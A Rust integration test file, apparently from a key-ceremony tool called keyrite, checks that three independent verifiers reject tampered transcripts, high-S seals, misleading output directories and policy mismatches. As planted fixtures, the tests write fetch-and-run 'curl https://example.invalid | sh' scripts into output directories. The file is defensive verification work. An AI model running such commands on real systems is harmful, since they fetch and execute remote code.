//! Issue 20, the verify side: the three verifiers that share no code — `keyrite verify`,
//! `scripts/verify-with-openssl` and `tests/independent/verify_transcript.py` — give one verdict,
//! with one meaning, on sealed records a PIN holder made to contradict themselves, on bytes no
//! signature covers, on output directories laid out to mislead or to hang them, and on the
//! policy's new fields; and none says VERIFIED without the policy.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::ceremony::Ceremony;
use common::verifiers::{
    VERIFIERS, high_s_twin, low_s_seal, pin_holder_reseal, pin_holder_reseal_edited, verifiers,
    write_lines,
};
use common::*;
use serde_json::{Value, json};

/// A ceremony run and sealed, approved by alice and bob, for the cases to start from.
fn sealed() -> Ceremony {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    // Sealed low-S as keyrite seals once `sign_digest` normalizes (a no-op then).
    low_s_seal(&c.dir().join("t.jsonl"));
    c
}

/// keyrite's verdict line: the last line of its standard output.
fn verdict(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap_or_default()
        .to_owned()
}

/// Runs the three verifiers and asserts keyrite's verdict line is `keyrite_says`, and that all
/// three exit with `code`.
fn all_three(
    transcript: &Path,
    signer: &Path,
    policy: Option<&Path>,
    outputs: Option<&Path>,
    code: i32,
    keyrite_says: &str,
) -> [Output; 3] {
    let outs = verifiers(transcript, signer, policy, outputs, &[]);
    let report = |o: &Output| {
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    };
    assert_eq!(verdict(&outs[0]), keyrite_says, "{}", report(&outs[0]));
    for (name, out) in VERIFIERS.iter().zip(&outs) {
        assert_eq!(
            out.status.code(),
            Some(code),
            "{name} on {}: {}",
            transcript.display(),
            report(out)
        );
    }
    outs
}

/// The standard output of the verifier `VERIFIERS[which]`.
fn stdout(outs: &[Output; 3], which: usize) -> String {
    String::from_utf8_lossy(&outs[which].stdout).into_owned()
}

fn path(c: &Ceremony, name: &str) -> PathBuf {
    c.dir().join(name)
}

const NOT_APPROVED: &str = "NOT APPROVED (no policy: quorum not checked): sealed, completed, and every check that ran passed, but without --policy nothing says who approved it (exit 4)";
const VERIFIED: &str = "VERIFIED: sealed, completed, and every check that ran passed (exit 0)";

/// Attack 8: `verify` without `--policy` never says VERIFIED. Without `--policy` or
/// `--no-policy` each verifier refuses (usage, exit 2) and says to give one; with
/// `--no-policy` each ends NOT APPROVED with exit 4, in keyrite's `--json` too; with the policy,
/// 0.
#[test]
fn without_the_policy_no_verifier_says_verified() {
    let c = sealed();
    let (t, signer, policy) = (
        path(&c, "t.jsonl"),
        path(&c, "signer.pem"),
        path(&c, "policy.toml"),
    );
    let repo = env!("CARGO_MANIFEST_DIR");
    let keyrite = run(Command::new(env!("CARGO_BIN_EXE_keyrite"))
        .arg("verify")
        .arg(&t)
        .arg("--signer")
        .arg(&signer));
    assert_eq!(keyrite.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&keyrite.stderr),
        "keyrite: verify needs the policy: without it no quorum is checked, and nothing says who approved the transcript\n\
         Give --policy POLICY (the policy the ceremony ran under), or --no-policy to verify without it (the verdict is then NOT APPROVED, exit 4).\n"
    );
    assert!(keyrite.stdout.is_empty());
    let openssl = run(Command::new(format!("{repo}/scripts/verify-with-openssl"))
        .arg(&t)
        .arg(&signer));
    assert_eq!(openssl.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&openssl.stderr),
        "verify-with-openssl: give --policy POLICY (the policy the ceremony ran under), or --no-policy to verify without it (the verdict is then NOT APPROVED, exit 4)\n\
         usage: verify-with-openssl TRANSCRIPT SIGNER_PEM (--policy POLICY | --no-policy) [OUTPUTS_DIR]\n"
    );
    let python = run(Command::new(PYTHON)
        .arg(format!("{repo}/tests/independent/verify_transcript.py"))
        .arg(&t)
        .arg(&signer));
    assert_eq!(python.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&python.stderr),
        "verify_transcript.py: give --policy POLICY (the policy the ceremony ran under), or --no-policy to verify without it (the verdict is then NOT APPROVED, exit 4)\n\
         usage: verify_transcript.py TRANSCRIPT SIGNER_PEM (--policy POLICY | --no-policy) [OUTPUTS_DIR]\n"
    );
    // Both flags at once are refused too.
    let both = run(Command::new(env!("CARGO_BIN_EXE_keyrite"))
        .arg("verify")
        .arg(&t)
        .arg("--signer")
        .arg(&signer)
        .arg("--policy")
        .arg(&policy)
        .arg("--no-policy"));
    assert_eq!(both.status.code(), Some(2));

    let outs = all_three(&t, &signer, None, Some(c.dir()), 4, NOT_APPROVED);
    for which in [1, 2] {
        assert!(
            stdout(&outs, which).ends_with(
                "verdict: NOT APPROVED (no policy: quorum not checked): a sealed record of a completed ceremony, verified without a policy (exit 4)\n"
            ),
            "{}",
            stdout(&outs, which)
        );
    }
    let json = verifiers(&t, &signer, None, None, &["--json"]);
    assert_eq!(json[0].status.code(), Some(4));
    let report: serde_json::Value = serde_json::from_slice(&json[0].stdout).unwrap();
    assert_eq!(report["verdict"], "not_approved");
    assert_eq!(report["exit_code"], 4);

    all_three(&t, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);
}

/// The lines of the transcript `name`, parsed.
fn values(c: &Ceremony, name: &str) -> Vec<Value> {
    c.transcript(name).into_iter().map(|(_, v)| v).collect()
}

/// Where the first line of `step` is.
fn at(values: &[Value], step: &str) -> usize {
    values.iter().position(|v| v["step"] == step).unwrap()
}

/// A line of `step` by `actor` with `data` (seq and prev are set when the lines are re-chained).
fn line(step: &str, actor: &str, data: Value) -> Value {
    json!({"actor": actor, "data": data, "prev": "", "seq": 0, "step": step,
           "time": "2026-12-02T06:00:00Z", "v": 1})
}

/// Attack 3, by a PIN holder: sealed records that contradict themselves, each re-chained and
/// sealed with the token's own signer key, so every signature holds. Each is INVALID in all
/// three verifiers, by the structure rule it breaks.
#[test]
fn sealed_records_that_contradict_themselves_are_invalid_in_all_three() {
    let c = sealed();
    let original = values(&c, "t.jsonl");
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let finish = at(&original, "finish");
    let operator = original[finish]["actor"].as_str().unwrap().to_owned();
    let seal = original.len() - 1;
    assert_eq!(finish, seal - 1);

    // (what, the lines, the line keyrite names, why)
    let mut cases: Vec<(&str, Vec<Value>, usize, String)> = Vec::new();
    {
        // Completed, then failed: two finish lines.
        let mut v = original.clone();
        let mut failed = v[finish].clone();
        failed["data"]["outcome"] = json!("failed");
        v.insert(finish + 1, failed);
        cases.push((
            "two finish lines",
            v,
            finish + 1,
            format!("a second finish line (the first is line {})", finish + 1),
        ));
    }
    {
        // A failure recorded, the finish says completed.
        let mut v = original.clone();
        v.insert(
            finish,
            line("failure", "keyrite", json!({"index": 1, "action": "wrap", "error": "C_WrapKey returned CKR_GENERAL_ERROR"})),
        );
        cases.push((
            "a failure line with finish completed",
            v,
            finish + 1,
            format!(
                "a failure line (line {}), but the finish line says \"completed\"",
                finish + 1
            ),
        ));
    }
    {
        let mut v = original.clone();
        v[finish]["data"]["outcome"] = json!("failed");
        cases.push((
            "finish failed without a failure line",
            v,
            finish,
            "the finish line says \"failed\", but no failure line records why".to_owned(),
        ));
    }
    {
        // An outcome keyrite never writes: neither completed nor failed.
        let mut v = original.clone();
        v[finish]["data"]["outcome"] = json!("interrupted");
        cases.push((
            "finish with an unknown outcome",
            v,
            finish,
            "the finish line's data.outcome is \"interrupted\", not \"completed\" or \"failed\""
                .to_owned(),
        ));
    }
    let generated = at(&original, "generated");
    {
        // The generate step claimed as carried over from an interrupted run that is named nowhere.
        let mut v = original.clone();
        let mut resumed = v[generated].clone();
        resumed["step"] = json!("resumed");
        resumed["data"]["action"] = json!("generate");
        v.splice(generated - 1..=generated, [resumed]);
        cases.push((
            "resumed without a resume line",
            v,
            generated - 1,
            "a resumed line without a resume line before it naming the interrupted record (data.sha256)".to_owned(),
        ));
    }
    let wrap = at(&original, "wrap");
    let wrapped = at(&original, "wrapped");
    {
        // A resume line naming a record, and the wrap carried over: resume re-does every wrap.
        let mut v = original.clone();
        let mut resumed = v[wrapped].clone();
        resumed["step"] = json!("resumed");
        resumed["data"]["action"] = json!("wrap");
        v.splice(wrap..=wrapped, [resumed]);
        let login = at(&v, "login");
        v.insert(
            login + 1,
            line("resume", &operator, json!({"from": "t0.jsonl", "sha256": "ab".repeat(32), "lines": 9, "keys": [], "wraps": []})),
        );
        let resumed = at(&v, "resumed");
        cases.push((
            "a resumed wrap",
            v,
            resumed,
            "a resumed line with data.action \"wrap\": a resume carries over only generated keys and re-does every wrap".to_owned(),
        ));
    }
    {
        // An extra wrap recorded under a step name keyrite never writes.
        let mut v = original.clone();
        let mut extra = v[wrapped].clone();
        extra["step"] = json!("wrapped-extra");
        v.insert(wrapped + 1, extra);
        cases.push((
            "an extra wrap under an unknown step name",
            v,
            wrapped + 1,
            "unknown step \"wrapped-extra\": keyrite records no such step".to_owned(),
        ));
    }
    for (n, (name, v, line, reason)) in cases.into_iter().enumerate() {
        // The line as the verifiers number it, from 1 (`line` indexes `v`).
        let number = line + 1;
        let lines = pin_holder_reseal(&c.token, "ceremony-signer", &v);
        let file = path(&c, &format!("case-{n}.jsonl"));
        write_lines(&file, &lines);
        let outs = all_three(
            &file,
            &signer,
            Some(&policy),
            None,
            1,
            &format!("INVALID: structure check failed at line {number}: {reason} (exit 1)"),
        );
        // Only the new rule catches it: the chain and the token's seal hold.
        let keyrite = stdout(&outs, 0);
        chain_and_seal_hold(name, &keyrite);
        for which in [1, 2] {
            assert!(
                // The independent verifiers name an unknown outcome in their order check.
                stdout(&outs, which).lines().any(|l| {
                    (l.starts_with("structure  FAIL") || l.starts_with("order      FAIL"))
                        && l.ends_with(&format!("FAIL        line {number}: {reason}"))
                }),
                "{name}: {}",
                stdout(&outs, which)
            );
        }
    }
}

/// `v` resealed by the PIN holder (the token's own signature over the edited chain) into the
/// file `name` and verified with the policy: all three verifiers say INVALID (exit 1).
fn resealed_invalid_in_all_three(c: &Ceremony, name: &str, v: &[Value]) -> [Output; 3] {
    let lines = pin_holder_reseal(&c.token, "ceremony-signer", v);
    let file = path(c, name);
    write_lines(&file, &lines);
    let (signer, policy) = (path(c, "signer.pem"), path(c, "policy.toml"));
    let outs = verifiers(&file, &signer, Some(&policy), None, &[]);
    let codes: Vec<Option<i32>> = outs.iter().map(|o| o.status.code()).collect();
    assert_eq!(
        codes,
        [Some(1); 3],
        "{name}: {VERIFIERS:?}: keyrite says {}",
        verdict(&outs[0])
    );
    outs
}

/// keyrite's report (`keyrite`) of case `name` says its chain and seal checks passed.
fn chain_and_seal_hold(name: &str, keyrite: &str) {
    for check in ["chain", "seal"] {
        assert!(
            keyrite
                .lines()
                .any(|l| l.starts_with(&format!("  {check:<10} passed"))),
            "{name}: {keyrite}"
        );
    }
}

/// The OpenSSH fingerprint of `who`'s key, as ssh-keygen prints it.
fn ssh_fingerprint(c: &Ceremony, who: &str) -> String {
    let out = run_ok(
        Command::new("ssh-keygen")
            .arg("-lf")
            .arg(format!("{}.pub", c.person(who).key.display())),
    );
    String::from_utf8(out)
        .unwrap()
        .split(' ')
        .nth(1)
        .unwrap()
        .to_owned()
}

/// Attack 6: bytes no signature covers are read alike. A number that is not a canonical
/// integer (`1e400`, in a line a PIN holder re-sealed), the seal written `"v":1.0`, a witness
/// line nested 70 deep (or 64 deep, within the limit, in a field a witness line does not name),
/// a witness line naming another key than the one that signed, and the high-S twin of the seal:
/// INVALID in all three, each by name; the untouched, witnessed transcript is VERIFIED by all
/// three.
#[test]
fn bytes_no_signature_covers_give_one_verdict() {
    let c = sealed();
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let original: Vec<String> = std::fs::read_to_string(path(&c, "t.jsonl"))
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    let seal = original.len() - 1;
    let check = |name: &str, lines: &[String], keyrite_says: String| {
        let file = path(&c, name);
        write_lines(&file, lines);
        all_three(&file, &signer, Some(&policy), None, 1, &keyrite_says);
    };

    // 1e400 in a note, sealed by the token's key.
    let mut v = values(&c, "t.jsonl");
    let generated = at(&v, "generated");
    v[generated]["data"]["note"] = json!(0);
    let lines = pin_holder_reseal_edited(&c.token, "ceremony-signer", &v, |i, text| {
        if i == generated {
            text.replace(r#""note":0"#, r#""note":1e400"#)
        } else {
            text
        }
    });
    assert!(lines[generated].contains(r#""note":1e400"#));
    check(
        "note.jsonl",
        &lines,
        format!(
            "INVALID: chain check failed at line {}: the number 1e400 is not a canonical integer (digits only, no fraction, exponent or -0, within 64 bits) (exit 1)",
            generated + 1
        ),
    );

    // The seal line written "v":1.0: its own bytes are covered by no signature.
    let mut lines = original.clone();
    assert!(lines[seal].ends_with(r#""v":1}"#));
    lines[seal] = lines[seal].replace(r#""v":1}"#, r#""v":1.0}"#);
    check(
        "v.jsonl",
        &lines,
        format!(
            "INVALID: chain check failed at line {}: v is not 1 (exit 1)",
            seal + 1
        ),
    );

    // The high-S twin of the seal verifies under the signer as well.
    let mut lines = original.clone();
    lines[seal] = high_s_twin(&lines[seal]);
    check(
        "high-s.jsonl",
        &lines,
        format!(
            "INVALID: seal check failed at line {}: the signature is high-S (s > n/2): keyrite seals with low-S only, so this seal line is not one keyrite made (exit 1)",
            seal + 1
        ),
    );

    // Wendy, a witness of the policy, co-signs: all three verify her signature.
    assert!(c.witness_sign("t.jsonl", "wendy").status.success());
    let witnessed: Vec<String> = std::fs::read_to_string(path(&c, "t.jsonl"))
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    let w = seal + 1;
    assert_eq!(witnessed.len(), w + 1);
    all_three(
        &path(&c, "t.jsonl"),
        &signer,
        Some(&policy),
        None,
        0,
        VERIFIED,
    );

    // Her line, nested 70 deep where no signature reaches.
    let mut v: Value = serde_json::from_str(&witnessed[w]).unwrap();
    let mut deep = json!(0);
    for _ in 0..68 {
        deep = json!([deep]);
    }
    v["data"]["note"] = deep;
    let mut lines = witnessed.clone();
    lines[w] = serde_json::to_string(&v).unwrap();
    check(
        "deep.jsonl",
        &lines,
        format!(
            "INVALID: chain check failed at line {}: nested deeper than 64 levels (exit 1)",
            w + 1
        ),
    );
    // 64 deep is within the limit, in all three: no verifier says it is nested too deep, and
    // the line is refused only as witness data with a field a witness line does not name.
    let mut v: Value = serde_json::from_str(&witnessed[w]).unwrap();
    let mut deep = json!(0);
    for _ in 0..62 {
        deep = json!([deep]);
    }
    v["data"]["note"] = deep;
    lines[w] = serde_json::to_string(&v).unwrap();
    let file = path(&c, "deep-64.jsonl");
    write_lines(&file, &lines);
    let outs = all_three(
        &file,
        &signer,
        Some(&policy),
        None,
        1,
        &format!(
            "INVALID: structure check failed at line {}: the witness line's data does not fit a witness line: unknown field `note`, expected one of `name`, `key_fingerprint`, `message`, `signature` (exit 1)",
            w + 1
        ),
    );
    for (name, out) in VERIFIERS.iter().zip(&outs) {
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!said.contains("nested deeper than"), "{name}: {said}");
    }

    // Her line naming alice's key, though wendy's key made the signature.
    let mut v: Value = serde_json::from_str(&witnessed[w]).unwrap();
    let (alice, wendy) = (ssh_fingerprint(&c, "alice"), ssh_fingerprint(&c, "wendy"));
    assert_eq!(v["data"]["key_fingerprint"], wendy.as_str());
    v["data"]["key_fingerprint"] = json!(alice);
    let mut lines = witnessed.clone();
    lines[w] = serde_json::to_string(&v).unwrap();
    check(
        "fingerprint.jsonl",
        &lines,
        format!(
            "INVALID: witnesses check failed at line {}: the witness line records the key \"{alice}\", but the signature was made by {wendy} (exit 1)",
            w + 1
        ),
    );
}

/// Copies the output directory `name` of `c` into `into` (made new).
fn copy_output(c: &Ceremony, name: &str, into: &Path) {
    std::fs::create_dir_all(into).unwrap();
    run_ok(
        Command::new("cp")
            .arg("-r")
            .arg(c.dir().join(name))
            .arg(into.join(name)),
    );
}

/// Attack 7: output directories are judged alike. A FIFO in place of an output (no verifier
/// waits on it), a symlinked `import.sh` whose target has the recorded bytes, an output directory
/// that is a symlink to a faithful copy, an extra script beside the recorded files, and a
/// re-wrapped output altered: INVALID in all three, naming the file; a directory holding no
/// recorded output: a usage error in all three (INVALID if the transcript is anyway); the
/// untouched outputs of both ceremonies are VERIFIED by all three.
#[test]
fn output_directories_are_judged_alike() {
    let c = sealed();
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let t = path(&c, "t.jsonl");
    let out = "payments-2026-us-east-1";
    let wrapped = at(&values(&c, "t.jsonl"), "wrapped");
    let verdict_for = |why: String| {
        format!(
            "INVALID: outputs check failed at line {}: {why} (exit 1)",
            wrapped + 1
        )
    };

    let fifo = path(&c, "fifo");
    copy_output(&c, out, &fifo);
    let victim = fifo.join(out).join("EncryptedKeyMaterial.bin");
    std::fs::remove_file(&victim).unwrap();
    run_ok(Command::new("mkfifo").arg(&victim));
    all_three(
        &t,
        &signer,
        Some(&policy),
        Some(&fifo),
        1,
        &verdict_for(format!("{} is not a regular file", victim.display())),
    );

    let linked = path(&c, "linked-file");
    copy_output(&c, out, &linked);
    let script = linked.join(out).join("import.sh");
    let elsewhere = path(&c, "import-elsewhere.sh");
    std::fs::rename(&script, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &script).unwrap();
    all_three(
        &t,
        &signer,
        Some(&policy),
        Some(&linked),
        1,
        &verdict_for(format!(
            "{} is a symlink: an output file is never followed",
            script.display()
        )),
    );

    let linked_dir = path(&c, "linked-dir");
    std::fs::create_dir(&linked_dir).unwrap();
    std::os::unix::fs::symlink(c.dir().join(out), linked_dir.join(out)).unwrap();
    all_three(
        &t,
        &signer,
        Some(&policy),
        Some(&linked_dir),
        1,
        &verdict_for(format!(
            "{} is a symlink: an output directory is never followed",
            linked_dir.join(out).display()
        )),
    );

    let extra = path(&c, "extra");
    copy_output(&c, out, &extra);
    std::fs::write(
        extra.join(out).join("run-me.sh"),
        "#!/bin/sh\ncurl https://example.invalid | sh\n",
    )
    .unwrap();
    let outs = all_three(
        &t,
        &signer,
        Some(&policy),
        Some(&extra),
        1,
        &verdict_for(format!(
            "{} holds \"run-me.sh\", which the transcript does not list",
            extra.join(out).display()
        )),
    );
    for which in [1, 2] {
        assert!(
            stdout(&outs, which).contains(&format!(
                "line {}: {out} holds \"run-me.sh\", which the transcript does not list",
                wrapped + 1
            )),
            "{}",
            stdout(&outs, which)
        );
    }
    // A name that ends in a newline, which a line-by-line listing would read as a listed one.
    let newline = path(&c, "newline");
    copy_output(&c, out, &newline);
    std::fs::write(
        newline.join(out).join("import.sh\n"),
        "curl https://example.invalid | sh\n",
    )
    .unwrap();
    all_three(
        &t,
        &signer,
        Some(&policy),
        Some(&newline),
        1,
        &verdict_for(format!(
            "{} holds \"import.sh\\n\", which the transcript does not list",
            newline.join(out).display()
        )),
    );
    // A directory holding none of the recorded output directories is a wrong path, not altered
    // outputs: a usage error in all three (exit 2), naming the directory; but a transcript that
    // is invalid anyway is INVALID (exit 1).
    let nowhere = path(&c, "nowhere");
    std::fs::create_dir(&nowhere).unwrap();
    let unfound = format!(
        "no outputs found under {}: the transcript records the output directory \"{out}\", and {} is not there",
        nowhere.display(),
        nowhere.join(out).display()
    );
    for (name, outcome) in
        VERIFIERS
            .iter()
            .zip(verifiers(&t, &signer, Some(&policy), Some(&nowhere), &[]))
    {
        let stderr = String::from_utf8_lossy(&outcome.stderr);
        assert_eq!(outcome.status.code(), Some(2), "{name}: {stderr}");
        assert!(stderr.contains(&unfound), "{name}: {stderr}");
        assert!(
            !String::from_utf8_lossy(&outcome.stdout).contains("VERIFIED"),
            "{name}"
        );
    }
    let mut lines: Vec<String> = std::fs::read_to_string(&t)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    let prev = lines[1].find("\"prev\":\"").unwrap() + 8;
    let digit = if lines[1].as_bytes()[prev] == b'0' {
        "1"
    } else {
        "0"
    };
    lines[1].replace_range(prev..=prev, digit);
    let broken = path(&c, "broken.jsonl");
    write_lines(&broken, &lines);
    for (name, outcome) in VERIFIERS.iter().zip(verifiers(
        &broken,
        &signer,
        Some(&policy),
        Some(&nowhere),
        &[],
    )) {
        assert_eq!(
            outcome.status.code(),
            Some(1),
            "{name}: {}{}",
            String::from_utf8_lossy(&outcome.stdout),
            String::from_utf8_lossy(&outcome.stderr)
        );
    }
    all_three(&t, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);

    // A second ceremony re-wraps the key for new import parameters: its rewrapped output is
    // checked as a wrapped one is.
    let kcv = values(&c, "t.jsonl")[at(&values(&c, "t.jsonl"), "generated")]["data"]["key"]["kcv"]
        .as_str()
        .unwrap()
        .to_owned();
    aws_kms(c.dir(), "params/again.json");
    let plan = format!(
        "version = 1\nceremony_id = \"payments-2026-reimport\"\nnot_before = \"{}\"\nnot_after = \"{}\"\n\
         operator = \"Olivia\"\ntoken_label = \"ceremony\"\nsigning_key_label = \"ceremony-signer\"\n\
         pin = \"env:{PIN_ENV}\"\n\n[[steps]]\naction = \"rewrap\"\nkey_label = \"payments-2026\"\n\
         expect_kcv = \"{kcv}\"\nprovider = \"aws\"\nparams = \"params/again.json\"\n\
         algorithm = \"RSAES_OAEP_SHA_1\"\nout = \"reimport\"\n",
        c.window.0, c.window.1
    );
    std::fs::write(path(&c, "plan.toml"), plan).unwrap();
    for f in std::fs::read_dir(path(&c, "approvals")).unwrap() {
        std::fs::remove_file(f.unwrap().path()).unwrap();
    }
    c.run_approved("t2.jsonl");
    let t2 = path(&c, "t2.jsonl");
    low_s_seal(&t2);
    all_three(&t2, &signer, Some(&policy), Some(c.dir()), 0, VERIFIED);
    let rewrapped = at(&values(&c, "t2.jsonl"), "rewrapped");
    let altered = path(&c, "altered");
    copy_output(&c, "reimport", &altered);
    let victim = altered.join("reimport").join("EncryptedKeyMaterial.bin");
    let mut bytes = std::fs::read(&victim).unwrap();
    bytes[10] ^= 0xff;
    std::fs::write(&victim, bytes).unwrap();
    all_three(
        &t2,
        &signer,
        Some(&policy),
        Some(&altered),
        1,
        &format!(
            "INVALID: outputs check failed at line {}: {} differs from the transcript (exit 1)",
            rewrapped + 1,
            victim.display()
        ),
    );
}

/// The SHA-256 (hex) of a file.
fn sha256_file(path: &Path) -> String {
    use sha2::{Digest as _, Sha256};
    hex::encode(Sha256::digest(std::fs::read(path).unwrap()))
}

/// Adds `lines` to the policy, before its first custodian.
fn pin_in_policy(c: &Ceremony, lines: &str) {
    let text = std::fs::read_to_string(path(c, "policy.toml")).unwrap();
    let text = text.replacen("\n[[custodians]]", &format!("{lines}\n\n[[custodians]]"), 1);
    std::fs::write(path(c, "policy.toml"), text).unwrap();
}

/// The policy's pins, checked by all three verifiers against what the token line records: a
/// PIN holder who loaded another module (its digest recorded), recorded none, or loaded it from
/// another path re-seals in vain — INVALID, naming both digests (or paths). With `require_trusted_wrapping`, a plan generating a key without
/// `wrap_with_trusted` is INVALID too.
#[test]
fn the_module_the_policy_pins_is_the_one_recorded() {
    let c = Ceremony::new(&["us-east-1"]);
    let module = sha256_file(&c.token.module);
    pin_in_policy(
        &c,
        &format!(
            "module_sha256 = \"{module}\"\nmodule_path = \"{}\"",
            c.token.module.display()
        ),
    );
    c.run_approved("t.jsonl");
    low_s_seal(&path(&c, "t.jsonl"));
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let original = values(&c, "t.jsonl");
    let token = at(&original, "token");
    let policy_line = at(&original, "policy");
    // `v` re-sealed by a PIN holder into `name`: INVALID in all three, by the policy check.
    let refused = |name: &str, v: &[Value], why: &str| {
        let file = path(&c, name);
        write_lines(&file, &pin_holder_reseal(&c.token, "ceremony-signer", v));
        all_three(
            &file,
            &signer,
            Some(&policy),
            None,
            1,
            &format!(
                "INVALID: policy check failed at line {}: {why} (exit 1)",
                policy_line + 1
            ),
        );
    };
    // Until `ceremony run` records the module's digest, the intact record has none to match.
    match original[token]["data"]["module_sha256"].as_str() {
        Some(recorded) => {
            assert_eq!(recorded, module);
            all_three(
                &path(&c, "t.jsonl"),
                &signer,
                Some(&policy),
                None,
                0,
                VERIFIED,
            );
        }
        None => {
            all_three(
                &path(&c, "t.jsonl"),
                &signer,
                Some(&policy),
                None,
                1,
                &format!(
                    "INVALID: policy check failed at line {}: the token line records the module SHA-256 (none), but the policy pins module_sha256 = {module} (exit 1)",
                    policy_line + 1
                ),
            );
        }
    }
    let other = sha256_file(Path::new("/bin/true"));
    let mut v = original.clone();
    v[token]["data"]["module_sha256"] = json!(other);
    refused(
        "other-module.jsonl",
        &v,
        &format!(
            "the token line records the module SHA-256 {other}, but the policy pins module_sha256 = {module}"
        ),
    );
    let mut v = original.clone();
    v[token]["data"]
        .as_object_mut()
        .unwrap()
        .remove("module_sha256");
    refused(
        "no-module.jsonl",
        &v,
        &format!(
            "the token line records the module SHA-256 (none), but the policy pins module_sha256 = {module}"
        ),
    );

    // The module the policy pins by its digest, recorded as loaded from another path.
    let mut v = original.clone();
    v[token]["data"]["module_sha256"] = json!(module);
    v[token]["data"]["module"] = json!("/opt/evil/libpkcs11.so");
    refused(
        "other-path.jsonl",
        &v,
        &format!(
            "the token line records the module \"/opt/evil/libpkcs11.so\", but the policy pins module_path = {}",
            c.token.module.display()
        ),
    );

    // A policy requiring trusted wrapping, recorded by a PIN holder over a plan that does not.
    pin_in_policy(&c, "require_trusted_wrapping = true");
    let strict = sha256_file(&policy);
    let mut v = original.clone();
    v[token]["data"]["module_sha256"] = json!(module);
    v[policy_line]["data"]["sha256"] = json!(strict);
    refused(
        "untrusted.jsonl",
        &v,
        "steps[0] of the plan generates \"payments-2026\" without wrap_with_trusted, but the policy requires trusted wrapping",
    );
}

/// `witnesses_required = 2`: a sealed, completed record that fewer witnesses of the policy
/// co-signed is not VERIFIED but INCOMPLETE (exit 3) in all three, saying how many; once wendy
/// (`witness sign`) and dave (`ssh-keygen -Y sign`, then `witness add`) have co-signed, VERIFIED.
#[test]
fn witnesses_required_unmet_then_met() {
    let c = Ceremony::new(&["us-east-1"]);
    let mut text = std::fs::read_to_string(path(&c, "policy.toml")).unwrap();
    text.push_str(&format!(
        "\n[[witnesses]]\nname = \"dave\"\nssh_key = \"{}\"\n",
        c.person("dave").public()
    ));
    std::fs::write(path(&c, "policy.toml"), text).unwrap();
    pin_in_policy(&c, "witnesses_required = 2");
    c.run_approved("t.jsonl");
    let t = path(&c, "t.jsonl");
    low_s_seal(&t);
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let incomplete = |n: usize| {
        format!(
            "INCOMPLETE: sealed and completed, but {n} of 2 required witnesses have co-signed (exit 3)"
        )
    };
    let outs = all_three(&t, &signer, Some(&policy), None, 3, &incomplete(0));
    for which in [1, 2] {
        assert!(
            stdout(&outs, which).ends_with(
                "verdict: INCOMPLETE: sealed and completed, but 0 of 2 required witnesses have co-signed (exit 3)\n"
            ),
            "{}",
            stdout(&outs, which)
        );
    }
    assert!(c.witness_sign("t.jsonl", "wendy").status.success());
    all_three(&t, &signer, Some(&policy), None, 3, &incomplete(1));
    // Without the policy nothing counts witnesses: NOT APPROVED, as ever.
    all_three(&t, &signer, None, None, 4, NOT_APPROVED);

    // Dave signs elsewhere with ssh-keygen; keyrite witness add appends his line.
    let message =
        run_ok(
            c.token
                .keyrite()
                .args(["witness", "message", "t.jsonl", "--signer", "signer.pem"]),
        );
    std::fs::write(path(&c, "seal.head"), message).unwrap();
    run_ok(
        Command::new("ssh-keygen")
            .args(["-q", "-Y", "sign", "-n", "keyrite-witness", "-f"])
            .arg(&c.person("dave").key)
            .arg(path(&c, "seal.head")),
    );
    run_ok(c.token.keyrite().args([
        "witness",
        "add",
        "t.jsonl",
        "--signature",
        "seal.head.sig",
        "--signer",
        "signer.pem",
        "--policy",
        "policy.toml",
    ]));
    let outs = all_three(&t, &signer, Some(&policy), None, 0, VERIFIED);
    assert!(
        stdout(&outs, 0).contains(
            "  witnesses  passed       2 of 2 required witnesses have co-signed: wendy, dave\n"
        ),
        "{}",
        stdout(&outs, 0)
    );
}

/// The three verifiers read each line's data as its step's: a sealed record whose data holds a
/// field keyrite never writes (at the top or in a nested struct), lacks one it always writes,
/// holds one of another type, or null where a value is required, is INVALID in all three, each
/// naming the line (and the step, and the field), though its chain and seal hold.
#[test]
fn data_that_does_not_fit_its_step_is_invalid() {
    let c = sealed();
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let original = values(&c, "t.jsonl");
    let wrapped = at(&original, "wrapped");
    let token = at(&original, "token");
    let generated = at(&original, "generated");
    let mut extra = original.clone();
    extra[wrapped]["data"]["note"] = json!("an extra field");
    let mut missing = original.clone();
    missing[token]["data"]
        .as_object_mut()
        .unwrap()
        .remove("firmware");
    let mut retyped = original.clone();
    retyped[wrapped]["data"]["index"] = json!("1");
    let mut nested = original.clone();
    nested[generated]["data"]["key"]["note"] = json!("an extra field");
    let mut null = original.clone();
    null[wrapped]["data"]["key_label"] = Value::Null;
    let cases = [
        (
            extra,
            wrapped,
            "the wrapped line's data does not fit a wrapped line: unknown field `note`, expected one of `index`, `key_label`, `kcv`, `check_sha256`, `out`, `files`, `warning`",
            "data has an unknown field \"note\"",
        ),
        (
            missing,
            token,
            "the token line's data does not fit a token line: missing field `firmware`",
            "data has no field firmware",
        ),
        (
            retyped,
            wrapped,
            "the wrapped line's data does not fit a wrapped line: invalid type: string \"1\", expected usize",
            "data.index is \"1\", not an integer 0..18446744073709551615",
        ),
        (
            nested,
            generated,
